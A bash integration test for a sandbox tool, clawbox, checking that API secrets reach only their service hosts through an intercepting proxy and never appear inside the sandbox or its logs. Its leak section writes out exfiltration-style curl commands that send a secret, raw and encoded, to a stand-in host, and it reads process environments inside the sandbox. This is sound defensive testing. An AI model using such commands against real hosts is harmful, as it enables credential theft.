#!/bin/bash
# test-services.sh: --service, a secret bound to hosts. Real clients inside `clawbox run`
# (curl, git over https, Python's urllib) reach a service host with the placeholder the
# sandbox was given, and the test's own HTTPS server (svc-server.py, a CA of the test's)
# receives the real secret; the proxy terminated their TLS with the installation's CA. The
# secret is nowhere inside, nor in any log or audit line. Leaks of the secret (raw and encoded,
# in the URL, a header, a body split across chunks) and of the placeholder to another host
# are refused and audited; an untrusted upstream gets 502 and nothing; a client that does not
# trust the CA fails its own handshake and nothing is forwarded. Loopback only: names map to
# 127.0.0.1 through the proxy's --hosts file, and --allow 127.0.0.1:PORT lets the SSRF guard
# pass the test's own servers.
. "$(dirname "$0")/lib.sh"

PIDS=()
NS=cbsvc$$
cleanup() {
	for p in "${PIDS[@]}"; do kill "$p" 2>/dev/null; done
	ip netns del "$NS" 2>/dev/null
	ip link del "${NS}h" 2>/dev/null
	cleanup_work
}
trap cleanup EXIT

SECRET='ghp_S3cretValueFor+Tests/0123456789'
export SVC_SECRET=$SECRET
AUDIT=$WORK/audit.jsonl
HOSTS=$WORK/hosts
CADIR=$WORK/ca # the installation's interception CA (made on first use)
T=$WORK/tls    # the test's own CA, for its upstreams
mkdir -p "$T" "$WORK/repos"

# The test's CA, and a server certificate from it for the service's names; a second,
# self-signed one for an upstream nobody trusts.
openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -subj /CN=test-ca -days 2 \
	-addext basicConstraints=critical,CA:TRUE -addext keyUsage=critical,keyCertSign \
	-keyout "$T/ca.key" -out "$T/ca.crt" 2>/dev/null
openssl req -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -subj /CN=api.svc.test \
	-keyout "$T/srv.key" -out "$T/srv.csr" 2>/dev/null
printf 'subjectAltName=DNS:api.svc.test,DNS:two.svc.test,DNS:bad.svc.test,DNS:node.svc.test\nbasicConstraints=CA:FALSE\n' >"$T/ext"
openssl x509 -req -in "$T/srv.csr" -CA "$T/ca.crt" -CAkey "$T/ca.key" -CAcreateserial -days 2 \
	-extfile "$T/ext" -out "$T/srv.crt" 2>/dev/null
openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -subj /CN=bad.svc.test \
	-addext subjectAltName=DNS:bad.svc.test -days 2 -keyout "$T/bad.key" -out "$T/bad.crt" 2>/dev/null

# A bare repository for git over https.
git init -q --bare "$WORK/repos/repo.git"
git -C "$WORK/repos" init -q src && git -C "$WORK/repos/src" -c user.name=t -c user.email=t@t \
	commit -q --allow-empty -m "the commit the sandbox clones"
git -C "$WORK/repos/src" push -q "$WORK/repos/repo.git" HEAD:refs/heads/main 2>/dev/null
git -C "$WORK/repos/repo.git" symbolic-ref HEAD refs/heads/main

# start_svc VAR LOG CERT KEY: an HTTPS service server; VAR gets its port.
start_svc() {
	local f=$WORK/port.$1
	python3 "$TOP/tests/integration/svc-server.py" 127.0.0.1 "$3" "$4" "$2" "$SECRET" \
		"$WORK/repos" >"$f" 2>>"$WORK/server-errors" &
	PIDS+=($!)
	wait_until 10 test -s "$f"
	printf -v "$1" '%s' "$(cat "$f")"
}
start_svc SP "$WORK/svc.log" "$T/srv.crt" "$T/srv.key"
start_svc BP "$WORK/bad.log" "$T/bad.crt" "$T/bad.key"
# Another allowed host, plain HTTP, where leaks would go.
"$HTTPD" 127.0.0.1 0 other "$WORK/other.log" >"$WORK/port.other" 2>/dev/null &
PIDS+=($!)
wait_until 5 test -s "$WORK/port.other"
OP=$(cat "$WORK/port.other")
touch "$WORK/svc.log" "$WORK/bad.log" "$WORK/other.log"

# A service on port 443, as real ones are, "on the internet": a network namespace of the
# test's own behind a veth pair (198.51.100.0/24, a documentation range), for clients that
# use no proxy and reach a service's name through the sandbox's /etc/hosts and port 443.
ip netns add "$NS"
ip link add "${NS}h" type veth peer name "${NS}n"
ip link set "${NS}n" netns "$NS"
ip addr add 198.51.100.1/24 dev "${NS}h"
ip link set "${NS}h" up
ip netns exec "$NS" ip addr add 198.51.100.2/24 dev "${NS}n"
ip netns exec "$NS" ip link set "${NS}n" up
ip netns exec "$NS" ip link set lo up
ip netns exec "$NS" python3 "$TOP/tests/integration/svc-server.py" 198.51.100.2 "$T/srv.crt" \
	"$T/srv.key" "$WORK/node.log" "$SECRET" "$WORK/repos" 443 >"$WORK/port.node" \
	2>>"$WORK/server-errors" &
PIDS+=($!)
wait_until 10 test -s "$WORK/port.node"
ip netns exec "$NS" "$HTTPD" 198.51.100.2 80 plain "$WORK/plain.log" >"$WORK/port.plain" 2>/dev/null &
PIDS+=($!)
wait_until 5 test -s "$WORK/port.plain"
touch "$WORK/node.log" "$WORK/plain.log"
# The namespace's own mount (/run/netns) is ours, not a sandbox's.
HOST_MOUNTS_BEFORE=$(wc -l </proc/self/mountinfo)

cat >"$HOSTS" <<HOSTS
127.0.0.1 api.svc.test two.svc.test bad.svc.test other.test mismatch.test
198.51.100.2 node.svc.test
HOSTS

SVC="{\"name\":\"svc\",\"hosts\":[\"api.svc.test:$SP\"],\"secret_env\":\"SVC_SECRET\",\"placeholder_env\":\"SVC_TOKEN\"}"
BAD="{\"name\":\"bad\",\"hosts\":[\"bad.svc.test:$BP\"],\"secret_env\":\"SVC_SECRET\",\"header\":\"Authorization: Bearer\"}"

# sbx ARGS... -- COMMAND...: a sandbox with the service, the other host and the test CA.
sbx() {
	local args=()
	while [ "$1" != "--" ]; do args+=("$1"); shift; done
	shift
	"$CLAWBOX" run --hosts "$HOSTS" --audit "$AUDIT" --ca-dir "$CADIR" \
		--fetch-ca-file "$T/ca.crt" --allow "127.0.0.1:$SP" --allow "127.0.0.1:$BP" \
		--allow "127.0.0.1:$OP" --allow "other.test:$OP" --service "$SVC" "${args[@]}" -- "$@" \
		>"$WORK/out" 2>"$WORK/err" </dev/null
	RC=$?
}
got_secret() { grep -cF -- "$SECRET" "$1"; }
last_audit() { tail -n 1 "$AUDIT"; }

# ---- the placeholder, and the secret's absence inside ----
sbx -- sh -c 'printf "%s\n" "$SVC_TOKEN"; env; cat /proc/self/environ /proc/1/environ 2>/dev/null | tr "\0" "\n";
	grep -rsF -- "'"${SECRET:0:12}"'" /etc /tmp /home /proc/self/cmdline 2>/dev/null | head -1; echo end'
PH=$(head -n 1 "$WORK/out")
check "the sandbox sees a placeholder of the form clawbox-placeholder-svc-<random>" \
	grep -qE '^clawbox-placeholder-svc-[0-9a-f]{32}$' <<<"$PH"
check "the secret is nowhere in the sandbox's environment, /proc or files" \
	test "$(got_secret "$WORK/out")" = 0 -a "$RC" = 0
check "the CA bundle and its variables are there" grep -q '^SSL_CERT_FILE=/etc/ssl/certs/ca-certificates.crt$' "$WORK/out"
check "the CA was made on first use, its key 0600" \
	test "$(stat -c %a "$CADIR/ca.key")" = 600 -a -s "$CADIR/bundle.crt"
sbx -- sh -c 'printf "%s\n" "$SVC_TOKEN"'
check "the placeholder is new in every run" test "$(head -n 1 "$WORK/out")" != "$PH"

# ---- real clients, intercepted ----
: >"$WORK/svc.log"
sbx -- sh -c 'curl -sS --max-time 20 -H "Authorization: Bearer $SVC_TOKEN" "https://api.svc.test:'"$SP"'/curl"'
check "curl: the placeholder reached the service as the secret over intercepted HTTPS" \
	grep -q '^auth: ok' "$WORK/out"
check "curl: the server got 'Authorization: Bearer SECRET'" \
	grep -qxF "header: Authorization: Bearer $SECRET" "$WORK/svc.log"
check "curl: the audit says intercepted for service svc" \
	grep -q '"host":"api.svc.test".*"decision":"allow","reason":"intercepted for service svc"' "$AUDIT"

: >"$WORK/svc.log"
sbx -- python3 -c '
import os, urllib.request
r = urllib.request.Request("https://api.svc.test:'"$SP"'/python",
                           headers={"Authorization": "token " + os.environ["SVC_TOKEN"]})
print(urllib.request.urlopen(r, timeout=20).read().decode(), end="")'
check "Python urllib: the placeholder arrived as the secret" grep -q '^auth: ok' "$WORK/out"
check "Python urllib: through the intercepting proxy (the server saw the secret)" \
	grep -qxF "header: Authorization: token $SECRET" "$WORK/svc.log"

: >"$WORK/svc.log"
# A client without TLS (our agent's web_fetch) asks the proxy for the https:// URL itself:
# the proxy's own fetch swaps the placeholder too, over the TLS libcurl verifies.
sbx -- bash -c 'exec 3<>/dev/tcp/127.0.0.1/3128
	printf "GET https://api.svc.test:'"$SP"'/fetch HTTP/1.1\r\nHost: api.svc.test\r\nAuthorization: Bearer %s\r\nConnection: close\r\n\r\n" "$SVC_TOKEN" >&3
	timeout 20 cat <&3'
check "the proxy's https fetch: the placeholder arrived as the secret" grep -q '^auth: ok' "$WORK/out"
check "... the server got 'Authorization: Bearer SECRET', the sandbox never saw it" \
	sh -c "grep -qxF 'header: Authorization: Bearer $SECRET' '$WORK/svc.log' && [ \$(grep -cF -- '$SECRET' '$WORK/out') = 0 ]"

: >"$WORK/svc.log"
sbx -- sh -c 'cd /tmp && git clone -q "https://x-access-token:$SVC_TOKEN@api.svc.test:'"$SP"'/git/repo.git" r &&
	git -C r log --format=%s'
check "git over https: a clone through the service with the placeholder as password" \
	grep -q 'the commit the sandbox clones' "$WORK/out"
check "git: the Basic credentials arrived with the secret inside" \
	grep -qF "header: Authorization: Basic $(printf 'x-access-token:%s' "$SECRET" | base64 -w0)" "$WORK/svc.log"

: >"$WORK/svc.log"
sbx -- sh -c 'curl -sS --max-time 20 "https://api.svc.test:'"$SP"'/q?access_token=$SVC_TOKEN"'
check "without \"query\", the URL's placeholder is not swapped" \
	grep -q "request: GET /q?access_token=clawbox-placeholder-svc-" "$WORK/svc.log"
SVCQ="{\"name\":\"svc\",\"hosts\":[\"api.svc.test:$SP\"],\"secret_env\":\"SVC_SECRET\",\"placeholder_env\":\"SVC_TOKEN\",\"query\":\"access_token\"}"
: >"$WORK/svc.log"
"$CLAWBOX" run --hosts "$HOSTS" --ca-dir "$CADIR" --fetch-ca-file "$T/ca.crt" --allow "127.0.0.1:$SP" \
	--service "$SVCQ" -- sh -c 'curl -sS --max-time 20 "https://api.svc.test:'"$SP"'/q?a=$SVC_TOKEN&access_token=$SVC_TOKEN"' \
	>"$WORK/out" 2>"$WORK/err" </dev/null
check "with \"query\": \"access_token\", that parameter (only) carries the secret" \
	grep -qF "request: GET /q?a=clawbox-placeholder-svc-" "$WORK/svc.log"
check "... and the named parameter got the secret (percent-encoded: it has + and /)" \
	grep -qF "&access_token=$(python3 -c 'import sys, urllib.parse; print(urllib.parse.quote(sys.argv[1], safe=""))' "$SECRET")" "$WORK/svc.log"

# Node's fetch ignores HTTPS_PROXY: the service's name resolves to the sandbox's loopback, and
# its port 443 goes to the proxy, which takes the destination from the TLS SNI.
NODESVC='{"name":"node","hosts":["node.svc.test"],"secret_env":"SVC_SECRET","placeholder_env":"NODE_TOKEN"}'
"$CLAWBOX" run --hosts "$HOSTS" --audit "$AUDIT" --ca-dir "$CADIR" --fetch-ca-file "$T/ca.crt" \
	--service "$NODESVC" -- node -e '
fetch("https://node.svc.test/node", {headers: {authorization: "Bearer " + process.env.NODE_TOKEN}})
  .then(r => r.text()).then(t => process.stdout.write(t))
  .catch(e => { console.log("error", e.cause || e); process.exit(1); })' \
	>"$WORK/out" 2>"$WORK/err" </dev/null
grep -q '^auth: ok' "$WORK/out" || sed 's/^/# /' "$WORK/out" "$WORK/err" "$WORK/server-errors"
check "Node's fetch (no proxy, no preload): the placeholder arrived as the secret" \
	grep -q '^auth: ok' "$WORK/out"
check "... the server got 'Authorization: Bearer SECRET'" \
	grep -qixF "header: Authorization: Bearer $SECRET" "$WORK/node.log"
check "... audited as intercepted for service node" \
	sh -c "grep '\"host\":\"node.svc.test\"' '$AUDIT' | tail -n 1 | grep -q 'intercepted for service node'"
"$CLAWBOX" run --hosts "$HOSTS" --audit "$AUDIT" --ca-dir "$CADIR" --fetch-ca-file "$T/ca.crt" \
	--service "$NODESVC" -- sh -c 'getent hosts node.svc.test | cut -d" " -f1
	curl -sS --max-time 10 --noproxy "*" --resolve other.test:443:127.0.0.1 https://other.test/ 2>&1 | head -c 300; echo " rc=$?"' \
	>"$WORK/out" 2>"$WORK/err" </dev/null
check "inside, a service's name resolves to the sandbox's loopback" grep -qx '127.0.0.1' "$WORK/out"
check "TLS on port 443 for a name that is no service's: the handshake fails" \
	sh -c "grep -q 'curl: (35)' '$WORK/out' && tail -n 1 '$AUDIT' | grep -q 'which is no service.s host'"

# Plain HTTP: the secret never crosses the network in clear text, unless the service named
# the port (a local server).
"$CLAWBOX" run --hosts "$HOSTS" --audit "$AUDIT" --ca-dir "$CADIR" --fetch-ca-file "$T/ca.crt" \
	--service "$NODESVC" -- sh -c 'curl -sS --max-time 10 -o /dev/null -w "%{http_code}" \
	-H "Authorization: Bearer $NODE_TOKEN" http://node.svc.test/plain' \
	>"$WORK/out" 2>"$WORK/err" </dev/null
check "plain HTTP to a service named without a port: passes, with the placeholder, not the secret" \
	sh -c "test \"\$(cat '$WORK/out')\" = 200 && grep -q 'header: Authorization: Bearer clawbox-placeholder-node-' '$WORK/plain.log' && ! grep -qF -- '$SECRET' '$WORK/plain.log'"
PLAINSVC="{\"name\":\"local\",\"hosts\":[\"other.test:$OP\"],\"secret_env\":\"SVC_SECRET\",\"placeholder_env\":\"LOCAL_TOKEN\"}"
: >"$WORK/other.log"
"$CLAWBOX" run --hosts "$HOSTS" --ca-dir "$CADIR" --allow "127.0.0.1:$OP" --service "$PLAINSVC" -- \
	sh -c 'curl -sS --max-time 10 -o /dev/null -H "X-Token: $LOCAL_TOKEN" "http://other.test:'"$OP"'/local"' \
	>"$WORK/out" 2>"$WORK/err" </dev/null
check "plain HTTP to a port the service named (a local server): the secret is swapped in" \
	grep -qxF "header: X-Token: $SECRET" "$WORK/other.log"

# "header": added when the program sends none.
: >"$WORK/bad.log"
BADOK="{\"name\":\"bad\",\"hosts\":[\"bad.svc.test:$BP\"],\"secret_env\":\"SVC_SECRET\",\"header\":\"Authorization: Bearer\"}"
cp "$T/bad.crt" "$WORK/bad-ca.crt"
"$CLAWBOX" run --hosts "$HOSTS" --ca-dir "$CADIR" --fetch-ca-file "$WORK/bad-ca.crt" \
	--allow "127.0.0.1:$BP" --service "$BADOK" -- curl -sS --max-time 20 "https://bad.svc.test:$BP/hdr" \
	>"$WORK/out" 2>"$WORK/err" </dev/null
check "\"header\": a request without one gets 'Authorization: Bearer SECRET' added" \
	grep -qxF "header: Authorization: Bearer $SECRET" "$WORK/bad.log"

# ---- request rules (h/rules) apply inside an intercepted tunnel too ----
RULE="{\"host\":\"api.svc.test:$SP\",\"methods\":[\"GET\"],\"paths\":[\"/ok/\"]}"
: >"$WORK/svc.log"
sbx --allow "$RULE" -- sh -c 'u=https://api.svc.test:'"$SP"'
	curl -sS --max-time 20 -o /dev/null -w "%{http_code} " "$u/ok/a"
	curl -sS --max-time 20 -o /dev/null -w "%{http_code} " -X POST "$u/ok/a"
	curl -sS --max-time 20 -o /dev/null -w "%{http_code} " "$u/elsewhere"
	curl -sS --max-time 20 -o /dev/null -w "%{http_code} " --path-as-is "$u/ok/../elsewhere"
	curl -sS --max-time 20 -D - -o /dev/null -X DELETE "$u/ok/a" | grep -i "^x-clawbox-refused" | tr -d "\r"'
check "rules on an intercepted host: GET /ok/ 200; POST, another path, a dot segment: 403" \
	grep -q '^200 403 403 403 ' "$WORK/out"
check "... the refusal says why in X-Clawbox-Refused, through the intercepted TLS" \
	grep -qi 'x-clawbox-refused: .*method' "$WORK/out"
check "... only the allowed request reached the service" \
	test "$(grep -c '^request: ' "$WORK/svc.log")" = 1

# ---- trust failures ----
# A certificate from a trusted CA, for other names: the name is checked, also when the proxy
# resumes TLS sessions (the second request here would resume one for the right name only).
MIS="{\"name\":\"mis\",\"hosts\":[\"mismatch.test:$SP\"],\"secret_env\":\"SVC_SECRET\",\"header\":\"Authorization: Bearer\"}"
: >"$WORK/svc.log"
"$CLAWBOX" run --hosts "$HOSTS" --audit "$AUDIT" --ca-dir "$CADIR" --fetch-ca-file "$T/ca.crt" \
	--allow "127.0.0.1:$SP" --service "$MIS" --service "$SVC" -- sh -c '
	curl -sS --max-time 20 -o /dev/null -w "%{http_code} " "https://api.svc.test:'"$SP"'/first"
	curl -sS --max-time 20 -o /dev/null -w "%{http_code}" "https://mismatch.test:'"$SP"'/x"' \
	>"$WORK/out" 2>"$WORK/err" </dev/null
check "an upstream whose trusted certificate names other hosts: 502" test "$(cat "$WORK/out")" = "200 502"
check "... nothing was forwarded to it" sh -c "! grep -q 'request: GET /x' '$WORK/svc.log'"

: >"$WORK/bad.log"
"$CLAWBOX" run --hosts "$HOSTS" --audit "$AUDIT" --ca-dir "$CADIR" --fetch-ca-file "$T/ca.crt" \
	--allow "127.0.0.1:$BP" --service "$BAD" -- \
	curl -sS --max-time 20 -o /dev/null -w '%{http_code}' "https://bad.svc.test:$BP/x" \
	>"$WORK/out" 2>"$WORK/err" </dev/null
check "an upstream whose certificate is not trusted: 502" test "$(cat "$WORK/out")" = 502
check "... nothing was forwarded to it" test ! -s "$WORK/bad.log"
check "... audited as not trusted" sh -c "tail -n 1 '$AUDIT' | grep -q 'certificate is not trusted'"

: >"$WORK/svc.log"
sbx -- sh -c 'curl -sS --max-time 20 --cacert /etc/ssl/certs/ISRG_Root_X1.pem -H "Authorization: Bearer $SVC_TOKEN" "https://api.svc.test:'"$SP"'/untrusting"; echo "rc=$?"'
check "a client that does not trust the CA fails its own handshake (curl exit 60)" grep -q '^rc=60' "$WORK/out"
check "... and nothing reached the service" test ! -s "$WORK/svc.log"

# ---- leaks ----
# The secret is given to the sandbox here on purpose (in curl's arguments, or --env), as if it
# had got in somehow.
enc_b64=$(printf '%s' "$SECRET" | base64 -w0)
enc_b64url=$(printf '%s' "$enc_b64" | tr '+/' '-_' | tr -d '=')
enc_hex=$(printf '%s' "$SECRET" | od -An -tx1 | tr -d ' \n')
enc_pct=$(python3 -c 'import sys, urllib.parse; print(urllib.parse.quote(sys.argv[1], safe=""))' "$SECRET")
: >"$WORK/other.log"
leak() { # DESCRIPTION FORM CURL-ARGS...
	local desc=$1 form=$2
	shift 2
	sbx -- curl -sS --max-time 20 -o /dev/null -w "%{http_code}" "$@"
	if [ "$(cat "$WORK/out")" = 403 ] && last_audit | grep -q '"reason":"leak attempt: the secret'; then
		ok "leak refused (403, audited): $desc"
	else
		not_ok "leak not refused: $desc (got $(cat "$WORK/out"); $(last_audit | head -c 300))"
	fi
}
for f in raw:"$SECRET" base64:"$enc_b64" base64url:"$enc_b64url" hex:"$enc_hex" pct:"$enc_pct"; do
	name=${f%%:*} val=${f#*:}
	leak "$name in the URL" "$val" "http://other.test:$OP/?q=$val"
done
leak "raw in a header" "$SECRET" -H "X-Data: $SECRET" "http://other.test:$OP/h"
leak "base64 inside a longer base64 header" "$SECRET" \
	-H "Authorization: Basic $(printf 'ab:%s' "$SECRET" | base64 -w0)" "http://other.test:$OP/b"
leak "hex in a body" "$enc_hex" --data-binary "prefix-$enc_hex-suffix" "http://other.test:$OP/body"
check "no leaked request reached the other host" test "$(got_secret "$WORK/other.log")" = 0

# A body split across chunks: 200 KiB of filler, then the secret, sent chunked in pieces so
# that the secret straddles a read boundary.
sbx --env "LEAKED=$SECRET" -- python3 -c '
import http.client, os
c = http.client.HTTPConnection("127.0.0.1", 3128, timeout=20)
s = os.environ["LEAKED"].encode()
def body():
    yield b"x" * 200000 + s[:5]
    yield s[5:] + b"tail"
c.request("POST", "http://other.test:'"$OP"'/chunks", body=body(), encode_chunked=True,
          headers={"Transfer-Encoding": "chunked"})
print(c.getresponse().status)'
check "a secret split across two body chunks: refused (403)" test "$(cat "$WORK/out")" = 403
check "... audited as a leak in the body, by service name" \
	sh -c "tail -n 1 '$AUDIT' | grep -q 'leak attempt: the secret (raw) of service svc in the body'"

sbx -- sh -c 'curl -sS --max-time 20 -o /dev/null -w "%{http_code}" -H "X-Token: $SVC_TOKEN" "http://other.test:'"$OP"'/ph"'
check "the placeholder sent to another host: 403" test "$(cat "$WORK/out")" = 403
check "... audited as a leak attempt of service svc's placeholder" \
	sh -c "tail -n 1 '$AUDIT' | grep -q 'leak attempt: the placeholder of service svc'"
sbx -- sh -c 'curl -sS --max-time 20 -o /dev/null -w "%{http_code}" "http://other.test:'"$OP"'/fine"'
check "an ordinary request to the other host still passes" test "$(cat "$WORK/out")" = 200

# ---- clawbox ask --service: the agent's bash tool, with the model key a secret too ----
FAKE=${FAKE_MODEL:-$TOP/build/tests/fake-model}
KEY=sk-ant-test-ModelKey-777777
cat >"$WORK/scenario.json" <<JSON
{"turns": [
 {"reply": {"tool_calls": [{"id": "t1", "name": "bash", "input": {"command":
   "echo token=\$SVC_TOKEN; curl -sS --max-time 20 -H \\"Authorization: Bearer \$SVC_TOKEN\\" https://api.svc.test:$SP/agent"}}]}},
 {"expect": {"last_contains": ["auth: ok", "token=clawbox-placeholder-svc-"]}, "reply": {"text": "the service knew me"}}
]}
JSON
"$FAKE" --scenario "$WORK/scenario.json" --log "$WORK/model.log" --port-file "$WORK/mport" \
	--key "$KEY" --forbid "$SECRET" 2>/dev/null &
PIDS+=($!)
wait_until 5 test -s "$WORK/mport"
mkdir -p "$WORK/ws"
: >"$WORK/svc.log"
(cd "$WORK/ws" && ANTHROPIC_API_KEY=$KEY "$CLAWBOX" ask --session "$WORK/session" \
	--base-url "http://127.0.0.1:$(cat "$WORK/mport")" --hosts "$HOSTS" --audit "$AUDIT" \
	--fetch-ca-file "$T/ca.crt" --allow "127.0.0.1:$SP" --ca-dir "$CADIR" --service "$SVC" \
	"call the service" >"$WORK/out" 2>"$WORK/err" </dev/null)
check "ask --service: the agent's curl reached the service with the secret" \
	grep -qxF "header: Authorization: Bearer $SECRET" "$WORK/svc.log"
check "... and the model saw the service's answer and the placeholder, never the secret" \
	sh -c "grep -q 'the service knew me' '$WORK/out' && ! grep -q '\"ok\": *false' '$WORK/model.log'"
export MODEL_KEY=$KEY
sbx --model-upstream "http://127.0.0.1:$(cat "$WORK/mport")" --model-key-env MODEL_KEY \
	--env "LEAKED=$KEY" -- sh -c 'curl -sS --max-time 20 -o /dev/null -w "%{http_code}" -H "X-K: $LEAKED" "http://other.test:'"$OP"'/key"'
check "the model key is a secret too: to another host, refused" test "$(cat "$WORK/out")" = 403
check "... audited as the model key" sh -c "tail -n 1 '$AUDIT' | grep -q 'leak attempt: the secret (raw) of the model-key'"

# ---- the daemon: a group's "services" ----
DPORT=$((20000 + RANDOM % 20000))
cat >"$WORK/dscenario.json" <<'JSON'
{"turns": [], "default": {"reply": {"text": "daemon reply"}}}
JSON
"$FAKE" --scenario "$WORK/dscenario.json" --log "$WORK/dmodel.log" --port-file "$WORK/dmport" \
	--key "$KEY" --forbid "$SECRET" 2>/dev/null &
PIDS+=($!)
wait_until 5 test -s "$WORK/dmport"
dconf() { # GROUP-SERVICES-JSON
	printf '{"data_dir": "%s/ddata", "listen": "127.0.0.1:%s",
	 "model": {"provider": "anthropic", "base_url": "http://127.0.0.1:%s", "api_key_env": "D_KEY"},
	 "groups": [{"id": "main", "main": true, "services": %s}]}\n' "$WORK" "$DPORT" \
		"$(cat "$WORK/dmport")" "$1" >"$WORK/daemon.json"
}
DSVC='[{"name": "gh", "hosts": ["api.github.com"], "secret_env": "D_GH_TOKEN", "placeholder_env": "GH_TOKEN"}]'
dconf "$DSVC"
"$CLAWBOX" serve --config "$WORK/daemon.json" --check-config >"$WORK/out" 2>&1
check "daemon: a group's services are valid configuration" grep -q "valid (1 group)" "$WORK/out"
dconf '{"name": "gh"}'
"$CLAWBOX" serve --config "$WORK/daemon.json" --check-config >"$WORK/out" 2>"$WORK/err"
check "daemon: services that are not a list: refused, named" \
	sh -c "grep -q 'groups\[0\].services: expected a list' '$WORK/err' && test \$(wc -l <'$WORK/err') = 1"
dconf "$DSVC"
D_KEY=$KEY timeout 20 "$CLAWBOX" serve --config "$WORK/daemon.json" >"$WORK/serve.out" 2>"$WORK/serve.err"
check "daemon: a service whose secret is not in its environment stops the start" \
	grep -q "secret's environment variable is not set" "$WORK/serve.err"
D_KEY=$KEY D_GH_TOKEN=$SECRET "$CLAWBOX" serve --config "$WORK/daemon.json" \
	>"$WORK/serve.out" 2>"$WORK/serve.err" &
SPID=$!
wait_until 10 curl -sf "http://127.0.0.1:$DPORT/healthz" -o /dev/null
DTOKEN=$(cat "$WORK/ddata/api-token" 2>/dev/null)
curl -s -o /dev/null -X POST -H "Authorization: Bearer $DTOKEN" --data '{"text": "hi services"}' \
	"http://127.0.0.1:$DPORT/api/v1/groups/main/messages"
wait_until 30 sh -c "curl -s -H 'Authorization: Bearer $DTOKEN' http://127.0.0.1:$DPORT/api/v1/groups/main/messages | grep -q 'daemon reply'"
check "daemon: a run of a group with a service answers" \
	sh -c "curl -s -H 'Authorization: Bearer $DTOKEN' http://127.0.0.1:$DPORT/api/v1/groups/main/messages | grep -q 'daemon reply'"
check "daemon: its interception CA was made in DATA/ca, the key 0600" \
	test "$(stat -c %a "$WORK/ddata/ca/ca.key" 2>/dev/null)" = 600
kill "$SPID" 2>/dev/null
wait "$SPID" 2>/dev/null
SPID=
check "daemon: the secret is in none of its logs" \
	sh -c "! grep -rqF -- '$SECRET' '$WORK/serve.out' '$WORK/serve.err' '$WORK/dmodel.log'"

# ---- nowhere in logs ----
check "the secret is in no audit line" test "$(got_secret "$AUDIT")" = 0
check "... and in none of clawbox's stderr" test "$(got_secret "$WORK/err")" = 0

# ---- bad specs: one clear line, exit 125 ----
expect_rc 125 "a service spec that is not JSON" run --ca-dir "$CADIR" --service '{nope' -- true
check "... one error line" one_error_line
expect_rc 125 "a service with an unset secret_env" run --ca-dir "$CADIR" \
	--service '{"name":"x","hosts":["a.test"],"secret_env":"CLAWBOX_NO_SUCH_VAR"}' -- true
expect_rc 125 "a service with an unknown member" run --ca-dir "$CADIR" \
	--service '{"name":"x","hosts":["a.test"],"secret_env":"SVC_SECRET","hostz":1}' -- true
chmod 644 "$WORK/secretfile" 2>/dev/null || { echo "$SECRET" >"$WORK/secretfile"; chmod 644 "$WORK/secretfile"; }
expect_rc 125 "a secret_file others may read" run --ca-dir "$CADIR" \
	--service "{\"name\":\"x\",\"hosts\":[\"a.test\"],\"secret_file\":\"$WORK/secretfile\"}" -- true

check_clean "nothing of the sandboxes is left"
done_testing
